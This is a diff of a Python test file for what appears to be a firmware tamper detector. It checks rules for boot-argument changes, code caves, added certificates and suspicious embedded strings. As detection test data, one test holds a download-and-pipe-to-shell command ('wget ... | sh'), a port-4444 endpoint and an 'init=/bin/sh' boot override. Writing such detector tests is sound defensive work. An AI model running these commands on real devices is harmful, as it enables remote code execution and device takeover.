@@ -42,7 +42,7 @@ def test_another_part_is_a_change_of_identity() -> None:
 def test_boot_arguments_padding_and_appendages_have_rules_of_their_own() -> None:
     tree = images.fdt({"chosen": {"bootargs": b"console=ttyS0\0"}})
     other = images.fdt({"chosen": {"bootargs": b"init=/bin/sh\0\0"}})
-    assert "commands" in rules(tree, other)
+    assert "boot-arguments" in rules(tree, other)
     full = bytearray(images.volume())
     full[3_000] = 0
     assert "padding" in rules(images.volume(), bytes(full))
@@ -79,3 +79,41 @@ def test_findings_name_the_technique_they_are_a_trace_of() -> None:
     assert named["identity"] == {"persistence.unauthorised_firmware"}
     assert named["regions"] == {"persistence.firmware_implant"}
     assert set().union(*named.values(), TECHNIQUES) <= known
+
+
+def test_texts_have_rules_by_what_they_could_do() -> None:
+    body = b"U-Boot 2023.01 \0" + b"\x17\x92" * 3000 + bytes(8192)
+
+    def said(*texts: bytes, before: bytes = body) -> set[str]:
+        return set(
+            rules(
+                before,
+                before[:9000] + b"\0" + b"\0".join(texts) + b"\0" + before[9001 + sum(map(len, texts)) + len(texts) :],
+            )
+        )
+
+    assert "shell" in said(b"/bin/sh -c wget -qO- http://203.0.113.7/p | sh &")
+    assert "endpoints" in said(b"203.0.113.9:4444")
+    assert "boot-arguments" in said(b"init=/bin/sh console=null")
+    loader = said(b"tftpboot ${fdt_addr_r} board.dtb; bootm ${kernel_addr_r}", b"https://ipxe.org/wiki")
+    assert {"commands", "addresses"} <= loader
+    assert not loader & {"shell", "endpoints", "boot-arguments"}
+
+
+def test_a_dense_piece_inside_filling_is_a_cave_and_what_only_moved_is_not() -> None:
+    payload = bytes(range(1, 255)) * 2
+    before = b"code" * 4000 + bytes(9000)
+    after = before[:18_000] + payload + before[18_000 + len(payload) :]
+    assert "cave" in rules(before, after)
+    assert "cave" not in rules(after, b"more" * 5 + after), "the same piece, a little further on"
+    page = before[:20_480] + payload + before[20_480 + len(payload) :]
+    assert "cave" not in rules(before, page), "a linker puts parts on pages"
+
+
+def test_a_first_certificate_is_not_one_more() -> None:
+    before = b"\x17" * 9000
+    one = before + b"-----BEGIN CERTIFICATE-----\n" + b"QUJD" * 20 + b"\n-----END CERTIFICATE-----\n"
+    two = one + b"-----BEGIN CERTIFICATE-----\n" + b"REVG" * 20 + b"\n-----END CERTIFICATE-----\n"
+    assert "first-key" in rules(before, one)
+    assert "keys" in rules(one, two)
+    assert "first-key" not in rules(one, two)
